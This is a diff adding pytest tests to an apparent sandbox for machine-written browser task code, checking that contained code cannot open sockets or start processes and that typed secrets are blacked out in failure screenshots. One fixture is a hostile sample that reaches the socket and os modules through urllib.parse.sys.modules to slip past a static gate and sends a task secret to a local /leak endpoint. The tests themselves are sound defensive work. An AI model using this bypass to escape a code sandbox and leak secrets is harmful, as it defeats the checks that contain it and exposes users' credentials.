@@ -292,6 +292,69 @@ def test_frame_hosts_let_a_frame_load_but_never_the_page_itself(pool):
     assert left.status == "failed" and "host not in allowed_hosts" in left.error_message
 
 
+SENDS_A_SECRET_FROM_PYTHON = """
+    import urllib.parse
+    def run(page, params):
+        page.goto(params["base"] + "/")
+        way_out = urllib.parse.sys.modules["socket"]  # past the static gate, as a crafted heal might get
+        with way_out.create_connection(("127.0.0.1", params["port"]), timeout=5) as conn:
+            conn.sendall(b"GET /leak?" + params["secrets"]["pw"].encode() + b" HTTP/1.0\\r\\n\\r\\n")
+            conn.recv(100)
+        return page.inner_text("h1")
+    """
+
+
+def test_contained_code_reaches_the_web_only_through_its_page(pool):
+    """Machine-written code runs contained: its browser works, but from Python it opens no socket and starts no
+    process, so nothing past the static gate can send the task's secrets out."""
+    with serve({"/": "<h1>home</h1>", "/leak": "ok"}) as site:
+        params = {"base": site.url, "port": site.port}
+        free = run(pool, SENDS_A_SECRET_FROM_PYTHON, params=params, secrets={"pw": "hunter2"})
+        assert (free.status, free.output, site.hits.get("/leak")) == ("succeeded", "home", 1)  # the probe works
+
+        contained = run(pool, SENDS_A_SECRET_FROM_PYTHON, params=params, secrets={"pw": "hunter2"}, contained=True)
+        spawns = run(pool, """
+            import urllib.parse
+            def run(page, params):
+                page.goto(params["base"] + "/")
+                urllib.parse.sys.modules["os"].system("true")
+            """, params=params, contained=True)
+        browses = run(pool, """
+            def run(page, params):
+                page.goto(params["base"] + "/")
+                page.reload()
+                return page.inner_text("h1")
+            """, params=params, contained=True)
+    assert contained.status == "failed" and "is not allowed: machine-written task code" in contained.error_message
+    assert site.hits.get("/leak") == 1  # still only the uncontained probe's
+    assert spawns.status == "failed" and "os.system is not allowed" in spawns.error_message
+    assert (browses.status, browses.output) == ("succeeded", "home")
+
+
+TYPES_THEN_FAILS = """
+    def run(page, params):
+        page.goto(params["base"] + "/")
+        page.fill("#token", params["secrets"]["token"] if params["secrets"] else params["token"])
+        page.click("#missing")
+    """
+
+
+def test_a_secret_typed_into_a_text_field_is_blacked_out_in_the_failure_screenshot(pool):
+    def failure_shot(**typed) -> str:
+        result = run(pool, TYPES_THEN_FAILS, params={"base": site.url, **typed.get("params", {})},
+                     secrets=typed.get("secrets", {}), action_timeout_ms=500)
+        assert result.status == "failed"
+        return next(shot["png_b64"] for shot in result.screenshots if shot["name"] == "failure")
+
+    with serve({"/": '<label>Token <input id="token" style="width:300px;font-size:30px"></label>'}) as site:
+        secret_a = failure_shot(secrets={"token": "hunter2-hunter2"})
+        secret_b = failure_shot(secrets={"token": "swordfish-swordfish"})
+        plain_a = failure_shot(params={"token": "hunter2-hunter2"})
+        plain_b = failure_shot(params={"token": "swordfish-swordfish"})
+    assert plain_a != plain_b  # the control: what is typed shows in the picture
+    assert secret_a == secret_b  # a secret does not: the field is a black box whatever it holds
+
+
 def test_no_chromium_left_after_a_killed_cold_run(allocated_uids):
     before = set(chromium_pids())
     with serve({"/": "<h1>hi</h1>"}) as site:
